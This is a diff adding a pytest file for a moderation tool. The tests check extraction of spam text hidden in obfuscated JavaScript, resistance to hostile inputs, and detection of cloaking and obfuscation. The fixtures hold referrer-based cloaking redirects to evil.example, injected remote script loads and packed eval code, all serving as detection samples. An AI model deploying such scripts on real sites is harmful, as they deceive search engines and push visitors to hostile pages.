@@ -1,0 +1,420 @@
+"""Scripts: what they write is read without running anything, and cutting it leaves a script."""
+
+from __future__ import annotations
+
+import base64
+import shutil
+import subprocess
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from moderation.data import Block, Page, Place, Span
+from moderation.stages.blocks import outline
+from moderation.stages.clean import clean, restore
+from moderation.stages.signals import outside
+
+TEXT = "澳门威尼斯人开户"
+BASE64 = base64.b64encode(TEXT.encode()).decode()
+PACKER = (
+    "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
+    "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
+    "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
+    "('%s',%d,%d,'%s'.split('|'),0,{}))"
+)
+
+
+def codes(form: str, joint: str = ",") -> str:
+    return joint.join(form.format(ord(each)) for each in TEXT)
+
+
+def written(script: str) -> list[Block]:
+    """What a script writes, in a page around it."""
+    content = f"<p>公司</p>\r\n<script>{script}</script><p>新闻</p>"
+    return [block for block in outline(Page(content)).blocks if block.path.startswith("script")]
+
+
+def source(script: str) -> str:
+    (block,) = written(script)
+    assert block.text == TEXT
+    content = f"<p>公司</p>\r\n<script>{script}</script><p>新闻</p>"
+    return content[block.span.start : block.span.end]
+
+
+# Spellings of a title, and the stretch of the source that is found; "" for the text itself.
+TITLES = {
+    "plain": (f'document.title = "{TEXT}"', ""),
+    "member by string": (f"document['title']='{TEXT}'", ""),
+    "member by strings": (f'document["ti"+"tle"]="{TEXT}"', ""),
+    "member by escapes": (rf"document['\x74\u0069tle']='{TEXT}'", ""),
+    "name with escape": (rf"d\u006fcument.t\u{{69}}tle='{TEXT}'", ""),
+    "window": (f"window.document.title='{TEXT}'", ""),
+    "top": (f"top.document.title = '{TEXT}'", ""),
+    "all by string": (f"window['doc'+'ument']['title']='{TEXT}'", ""),
+    "other name of document": (f"var d=document;d.title='{TEXT}'", ""),
+    "line break": (f"document\n.title\n=\n'{TEXT}'", ""),
+    "comments": (f"document/*x*/.title/*y*/=/*'*/'{TEXT}'", ""),
+    "behind a pattern": (f"var a=/'/;document.title='{TEXT}'", ""),
+    "behind a quotient": (f"var a=b/c;document.title='{TEXT}';d=e/f", ""),
+    "behind a string cut short": (f"var a='x\ndocument.title='{TEXT}'", ""),
+    "decodeURIComponent": (f"document.title=decodeURIComponent('{quote(TEXT)}')", quote(TEXT)),
+    "decodeURI": (f"document.title=decodeURI('{quote(TEXT)}')", quote(TEXT)),
+    "decoder of window": (f"document.title=window['decodeURI']('{quote(TEXT)}')", quote(TEXT)),
+    "unescape": (f"document.title=unescape('{codes('%u{:04X}', '')}')", codes("%u{:04X}", "")),
+    "atob": (f"document.title=decodeURIComponent(escape(atob('{BASE64}')))", BASE64),
+    "atob by bytes": (
+        "document.title=decodeURIComponent(atob('" + BASE64 + "').split('').map(function(c){return '%'+"
+        "('00'+c.charCodeAt(0).toString(16)).slice(-2)}).join(''))",
+        BASE64,
+    ),
+    "atob by decoder": (
+        f"document.title=new TextDecoder('utf-8').decode(Uint8Array.from(atob('{BASE64}'),c=>c.charCodeAt(0)))",
+        BASE64,
+    ),
+    "codes": (f"document.title=String.fromCharCode({codes('{}')})", codes("{}")),
+    "codes, hexadecimal": (f"document.title=String['fromCharCode']({codes('0x{:x}')})", codes("0x{:x}")),
+    "codes applied": (f"document.title=String.fromCharCode.apply(null,[{codes('{}', ', ')}])", codes("{}", ", ")),
+    "codes one by one": (
+        f"document.title=[{codes('{}')}].map(function(c){{return String.fromCharCode(c)}}).join('')",
+        codes("{}"),
+    ),
+    "u": (f"document.title='{codes(chr(92) + 'u{:04x}', '')}'", codes("\\u{:04x}", "")),
+    "u in braces": (f"document.title='{codes(chr(92) + 'u{{{:x}}}', '')}'", codes("\\u{{{:x}}}", "")),
+    "references": (f"document.title='{codes('&#{};', '')}'", codes("&#{};", "")),
+    "template": (f"document.title=`{TEXT}`", ""),
+    "template with a literal": ("document.title=`澳门${'威尼斯人'}开户`", "澳门${'威尼斯人'}开户"),
+    "sum": ("document.title='澳门'+\n\"威尼斯人\"+`开户`", '澳门\'+\n"威尼斯人"+`开户'),
+    "concat": ("document.title='澳门'.concat('威尼斯人','开户')", "澳门'.concat('威尼斯人','开户"),
+    "join": ("document.title=['澳门','威尼斯人','开户'].join('')", "澳门','威尼斯人','开户"),
+    "reversed": (
+        f"document.title='{TEXT[::-1]}'.split('').reverse().join('')",
+        f"'{TEXT[::-1]}'.split('').reverse().join('')",
+    ),
+    "replaced": (f"document.title='{'x'.join(TEXT)}'.replace(/x/g,'')", "x".join(TEXT)),
+    "variable": (f"var t='{TEXT}';go('x');document.title=t", ""),
+    "variable of a variable": (f"var s='{TEXT}',t=s;document.title=t", ""),
+    "variable given twice": (f"var t='公司';t='{TEXT}';document.title=t;t='新闻'", ""),
+    "variables": ("var a='澳门',b='威尼斯人开户';document.title=a+b", "威尼斯人开户"),
+    "added": ("var s='';s+='澳门';s+='威尼斯人开户';document.title=s", "威尼斯人开户"),
+    "item of a list": (f"var _0x1a=['{TEXT}','title'];document[_0x1a[1]]=_0x1a[0]", ""),
+    "on one side": (f"document.title=ok?'{TEXT}':name", ""),
+    "otherwise": (f"document.title=name||'{TEXT}'", ""),
+    "in a function": (f"(function(){{if(a){{document.title='{TEXT}'}}}})()", ""),
+    "written script": (f"document.write('<script>document.title=\"{TEXT}\"<\\/script>')", ""),
+    "run": (f"eval('document.title=\"{TEXT}\"')", ""),
+    "run later": (f"setTimeout('document.title=\"{TEXT}\"',9)", ""),
+    "packed": (PACKER % ('0.1="2"', 3, 3, f"document|title|{TEXT}"), ""),
+}
+
+
+@pytest.mark.parametrize(("script", "origin"), TITLES.values(), ids=TITLES)
+def test_titles(script: str, origin: str) -> None:
+    assert source(script) == (origin or TEXT)
+    assert [(block.place, block.path) for block in written(script)] == [(Place.TITLE, "script[document.title]")]
+
+
+# What is written, and by what.
+WRITINGS = {
+    "write": (f"document.write('<p>{TEXT}</p>')", "document.write"),
+    "several": ("document.write('<p>',name,'</p>');document.write('<b>澳门威尼斯人'+'开户</b>')", "document.write"),
+    "writeln": (f'document.writeln("<div style=\\"color:red\\">{TEXT}</div>")', "document.writeln"),
+    "write by string": (f"document['wri'+'te']('{TEXT}')", "document.write"),
+    "references": (f"document.write('<a href=/x>{codes('&#x{:x};', '')}</a>')", "document.write"),
+    "coded": (f"document.write(unescape('%3Cp%3E{codes('%u{:04x}', '')}%3C/p%3E'))", "document.write"),
+    "innerHTML": (f"document.getElementById('x').innerHTML='<b>{TEXT}</b>'", "innerHTML"),
+    "innerHTML added": (f"x.innerHTML+='{TEXT}'", "innerHTML"),
+    "outerHTML": (f"x['outerHTML']='<b>{TEXT}</b>'", "outerHTML"),
+    "insertAdjacentHTML": (f"x.insertAdjacentHTML('beforeend','<i>{TEXT}</i>')", "insertAdjacentHTML"),
+    "textContent": (f"document.querySelector('title').textContent='{TEXT}'", "textContent"),
+    "run codes": (
+        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in f"document.write('{TEXT}')") + "))",
+        "document.write",
+    ),
+    "script in a script": (
+        f"document.write('<script>document.write(\"<p>{TEXT}</p>\")<\\/script>')",
+        "document.write",
+    ),
+}
+
+
+@pytest.mark.parametrize(("script", "how"), WRITINGS.values(), ids=WRITINGS)
+def test_writings(script: str, how: str) -> None:
+    assert [(block.text, block.place, block.path) for block in written(script)] == [
+        (TEXT, Place.SCRIPT, f"script[{how}]")
+    ]
+
+
+def test_written_markup_is_read_as_markup() -> None:
+    script = (
+        'document.write(\'<ul><li><a href="http://x.example/">澳门</a> 开户</li><!--一--><style>p{}</style>'
+        "<li>博&amp;彩</li></ul><img src=a>')"
+    )
+    assert [block.text for block in written(script)] == ["澳门 开户\n博&彩"]
+
+
+NOTHING = {
+    "another title": f"page.title='{TEXT}'",
+    "another write": f"log.write('{TEXT}')",
+    "a string": f"var words='{TEXT}'",
+    "in a comment": f"/* document.title='{TEXT}' */ // document.title='{TEXT}'\n<!-- document.title='{TEXT}'",
+    "in a string": f"var a=\"document.title='{TEXT}'\"",
+    "compared": f"if(document.title=='{TEXT}')go()",
+    "compared again": f"document.title==='{TEXT}'",
+    "not known": "document.title=name;document.write(name);x.innerHTML=f('a')",
+    "string cut short": f"document.title='{TEXT}",
+    "no letters": "document.write('<br>&nbsp;1')",
+    "a later value": f"document.title=t;var t='{TEXT}'",
+    "a pattern": f"x=/document.title='{TEXT}'/",
+    "names of nothing": "document.title=t;t=t;document.write(t);a=b;b=a;document.write(a)",
+}
+
+
+@pytest.mark.parametrize("script", NOTHING.values(), ids=NOTHING)
+def test_nothing_is_written(script: str) -> None:
+    assert written(script) == []
+
+
+LONG = 100_000
+HOSTILE = {
+    "doubled": "var a='ab';" + "a=a+a;" * 5000 + "document.title=a",
+    "doubled by names": "var a0='ab';"
+    + "".join(f"var a{i + 1}=a{i}+a{i};" for i in range(5000))
+    + "document.title=a4999",
+    "added and written": "s='x';" + "s+='澳门';document.write(s);" * 5000,
+    "lists": "document.title=" + "[" * LONG,
+    "brackets": "document.title=" + "(" * LONG + "'a'" + ")" * LONG,
+    "members": "a" + ".b" * LONG + "=1",
+    "calls": "unescape(" * LONG,
+    "patterns": "a=[/" * LONG,
+    "templates": "`${" * LONG,
+    "writes of writes": "document.write(" * LONG + "'澳门'",
+    "titles": "document.title=" * LONG,
+    "names": "".join(f"a{i}=" for i in range(LONG)) + "1",
+    "escapes": "document.title='" + "\\u" * LONG + "'",
+    "percents": "document.title=decodeURIComponent('" + "%" * LONG + "')",
+    "tags": "document.write('" + "<a " * LONG + "')",
+    "quotes": "document.write('" + '<a "' * LONG + "')",
+    "scripts": "document.write('" + "<script>" * LONG + "')",
+    "comments": "document.write('" + "<!--" * LONG + "')",
+    "splits": "document.title='" + "a" * LONG + "'" + ".split('').join('a')" * 200,
+    "replaced": "document.title='" + "a" * LONG + "'" + ".replace(/a/g,'aaaa')" * 200,
+    "guards": "if(/baidu/.test(document.referrer))" * 20_000 + "location='http://x.example'",
+    "functions": "function f(){if(/baidu/.test(document.referrer))" * 20_000 + "location='http://x.example'",
+    "closed": "}])" * LONG,
+    "packed": PACKER % ("0 " * LONG, 2, 1, "ab" * LONG),
+}
+
+
+@pytest.mark.parametrize("script", HOSTILE.values(), ids=HOSTILE)
+def test_hostile_scripts_cost_little(script: str) -> None:
+    # Each takes well under a second; what doubles or is read again and again would take hours or all memory.
+    blocks = outline(Page(f"<script>{script}</script><p>{TEXT}</p>")).blocks
+    assert blocks[-1].text == TEXT
+    assert sum(len(block.text) for block in blocks) < 20 * len(script) + 10_000
+
+
+# -- cutting
+
+
+def cut(script: str) -> str:
+    """The script without what it writes."""
+    content = f"<p>公司</p><script>{script}</script><p>新闻</p>"
+    spans = [block.span for block in outline(Page(content)).blocks if block.path.startswith("script")]
+    cleaned = clean(Page(content), spans)
+    assert spans
+    assert restore(cleaned.content, cleaned.cuts) == content
+    front, back = "<p>公司</p><script>", "</script><p>新闻</p>"
+    assert cleaned.content.startswith(front)
+    assert cleaned.content.endswith(back)
+    return cleaned.content[len(front) : -len(back)]
+
+
+CUTS = {
+    "string": (f"document.title='{TEXT}';go()", "document.title='';go()"),
+    "half": (f"document.title='公司 - {TEXT}'", "document.title=''"),
+    "escapes": (r"document.title='\u6fb3\u95e8\'a'", "document.title=''"),
+    "codes": ("document.title=String.fromCharCode(28595,38376)", "document.title=String.fromCharCode()"),
+    "list": ("document.title=['澳门','开户'].join('')", "document.title=['',''].join('')"),
+    "sum": ("document.title='澳门'+name+\"开户\"", "document.title=''+name+\"\""),
+    "reversed": (
+        "document.title='户开'.split('').reverse().join('')",
+        "document.title=''.split('').reverse().join('')",
+    ),
+    "variable": ("var t='澳门';document.title=t", "var t='';document.title=t"),
+    "markup": ("document.write('<p>澳门</p>')", "document.write('<p></p>')"),
+    "template": ("document.title=`澳门${'开户'}`", "document.title=`${''}`"),
+    "base64": (
+        f"document.title=decodeURIComponent(escape(atob('{BASE64}')))",
+        "document.title=decodeURIComponent(escape(atob('')))",
+    ),
+}
+
+
+@pytest.mark.parametrize(("script", "rest"), CUTS.values(), ids=CUTS)
+def test_cutting_empties_literals(script: str, rest: str) -> None:
+    assert cut(script) == rest
+
+
+def test_cutting_makes_no_end_of_a_script() -> None:
+    assert cut("document.title='<澳门/script>'") == "document.title=''"
+    content = "<script>document.title='a<澳门/script>'</script>"
+    at = content.index("澳门")
+    assert clean(Page(content), [Span(at, at + 2)]).content == "<script>document.title=''</script>"
+
+
+def test_a_part_of_an_escape_takes_it_as_a_whole() -> None:
+    content = r"<script>document.title='a\u6fb3\u95e8b'</script>"
+    at = content.index("6fb3")
+    assert clean(Page(content), [Span(at + 1, at + 7)]).content == "<script>document.title='ab'</script>"
+
+
+def test_a_script_cut_as_a_whole_is_gone() -> None:
+    content = "<p>公司</p><script>go('澳门')</script>"
+    at = content.index("go")
+    assert clean(Page(content), [Span(at, at + len("go('澳门')"))]).content == "<p>公司</p>"
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+def test_what_is_left_is_valid(tmp_path: Path) -> None:
+    scripts = [script for script, _ in (*TITLES.values(), *WRITINGS.values(), *CUTS.values())]
+    # This one is broken before it is cut.
+    scripts = [script for script in scripts if not script.startswith("var a='x\n")]
+    path = tmp_path / "cut.js"
+    path.write_text("".join(f"(function(){{\n{cut(script)}\n}})();\n" for script in scripts), "utf-8")
+    done = subprocess.run(["node", "--check", str(path)], capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+
+
+# -- visitors who are sent elsewhere
+
+CLOAKS = {
+    "referrer": (
+        "if(/baidu|sogou/i.test(document.referrer)){location.href='https://evil.example/x'}",
+        "script:cloaking",
+    ),
+    "referrer in a variable": (
+        "var s=document.referrer\nif(s.indexOf('google')>0||s.indexOf('baidu')>0)location='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "list and function": (
+        (
+            "var r=document.referrer,e=['baidu','so.com'];"
+            "function s(){for(var i=0;i<2;i++)if(r.indexOf(e[i])>0)return 1}"
+            "if(s())window.location.replace('//evil.example/')"
+        ),
+        "script:cloaking",
+    ),
+    "robot is spared": (
+        "if(!/spider/i.test(navigator.userAgent))top.location='http://evil.example'",
+        "script:cloaking",
+    ),
+    "left early": (
+        "(function(){if(!/baidu/.test(document.referrer))return;window.location.href='http://evil.example'})()",
+        "script:cloaking",
+    ),
+    "otherwise": (
+        "if(!/sm\\.cn/.test(document.referrer)){go()}else{location.assign('http://evil.example')}",
+        "script:cloaking",
+    ),
+    "and": ("/bing/.test(document.referrer)&&(location='http://evil.example')", "script:cloaking"),
+    "either": ("document.referrer.indexOf('haosou')>0?location='http://evil.example':0", "script:cloaking"),
+    "function that sends": (
+        "function f(){location.href='http://evil.example'}if(document.referrer.indexOf('toutiao')>0){f()}",
+        "script:cloaking",
+    ),
+    "script loaded": (
+        "if(/baidu/.test(document.referrer)){document.write('<script src=\"http://evil.example/a.js\"><\\/script>')}",
+        "script:cloaking",
+    ),
+    "script made": (
+        (
+            "if(/baidu/.test(document.referrer)){var s=document.createElement('script');s.src='http://evil.example/a';"
+            "document.body.appendChild(s)}"
+        ),
+        "script:cloaking",
+    ),
+    "refresh written": (
+        "if(/baidu/.test(document.referrer))document.write('<meta http-equiv=refresh content=\"0;url=http://evil.example\">')",
+        "script:cloaking",
+    ),
+    "address by strings": (
+        "if(/baidu/.test(document['ref'+'errer'])){window['loc'+'ation']['href']='ht'+'tp://evil.example'}",
+        "script:cloaking",
+    ),
+    "run": (
+        "eval(unescape('" + quote("if(/baidu/.test(document.referrer))location='http://evil.example'") + "'))",
+        "script:cloaking",
+    ),
+    "mobile": (
+        "if(/android|iphone/i.test(navigator.userAgent))location.href='http://m.evil.example/'",
+        "script:redirect",
+    ),
+}
+
+
+@pytest.mark.parametrize(("script", "code"), CLOAKS.values(), ids=CLOAKS)
+def test_cloaking(script: str, code: str) -> None:
+    content = f"<title>公司</title><script>{script}</script>"
+    marks = [mark for mark in outline(Page(content)).marks if mark.code != "script:obfuscated"]
+    assert [(mark.code, mark.detail.removeprefix("m.")) for mark in marks] == [(code, "evil.example")]
+    assert content[marks[0].span.start : marks[0].span.end] == script
+
+
+HONEST = {
+    "relative": "if(/baidu/.test(document.referrer))location.href='/m/'",
+    "own variable": "if(/baidu/.test(document.referrer))location.href=home",
+    "host not known": "if(/baidu/.test(document.referrer))location.href='http://'+host+'/'",
+    "statistics": "document.write('<script src=\"http://s.example/?r='+document.referrer+'\"><\\/script>')",
+    "picture": "if(/baidu/.test(document.referrer)){var i=new Image();i.src='http://s.example/x.gif'}",
+    "advertisement spared the robot": (
+        "if(navigator.userAgent.indexOf('baidu.com/search/spider')==-1)"
+        "document.write('<script src=\"http://ads.example/a.js\"><\\/script>')"
+    ),
+    "push": (
+        "var bp=document.createElement('script');if(location.protocol==='https:'){bp.src='https://zz.example/baidu/push.js'}"
+        "else{bp.src='http://push.zhanzhang.baidu.com/push.js'}"
+    ),
+    "beside": "if(/baidu/.test(document.referrer)){count()}\nfunction go(){location.href='http://x.example'}",
+    "no engine": "if(document.referrer==''){location.href='http://x.example'}".replace("document.referrer==''", "a"),
+    "climbing": "if(/climbing/.test(document.title)){location.href='http://x.example'}",
+}
+
+
+@pytest.mark.parametrize("script", HONEST.values(), ids=HONEST)
+def test_no_cloaking(script: str) -> None:
+    assert outline(Page(f"<title>公司</title><script>{script}</script>")).marks == ()
+
+
+@pytest.mark.parametrize(
+    ("url", "rest", "count"),
+    [
+        ("http://www.firm.example/", "", 1),
+        ("http://www.evil.example/", "", 0),
+        ("http://www.evil.test/", "", 0),
+        (None, "", 1),
+        (None, "<a href='https://evil.example/about'>关于</a>", 0),
+        (None, "<p>evil.example</p>", 1),
+    ],
+)
+def test_a_site_of_its_own_is_not_elsewhere(url: str | None, rest: str, count: int) -> None:
+    page = Page(f"<script>{CLOAKS['referrer'][0]}</script>{rest}", url=url)
+    assert len(outside(outline(page).marks, page)) == count
+
+
+OBFUSCATED = {
+    "packed": PACKER % ("0", 2, 1, "go"),
+    "names": "var " + ",".join(f"_0x{i:04x}=1" for i in range(9)),
+    "run": "eval(unescape('%67%6f%28%29'))",
+    "jsjiami": "var a='jsjiami.com.v6'",
+}
+
+
+@pytest.mark.parametrize("script", OBFUSCATED.values(), ids=OBFUSCATED)
+def test_obfuscated(script: str) -> None:
+    assert [mark.code for mark in outline(Page(f"<script>{script}</script>")).marks] == ["script:obfuscated"]
+
+
+@pytest.mark.parametrize("script", ["eval('go()')", "var _0x1=1,_0x2=2", "x.replace(/a/g,'b')"])
+def test_not_obfuscated(script: str) -> None:
+    assert outline(Page(f"<script>{script}</script>")).marks == ()
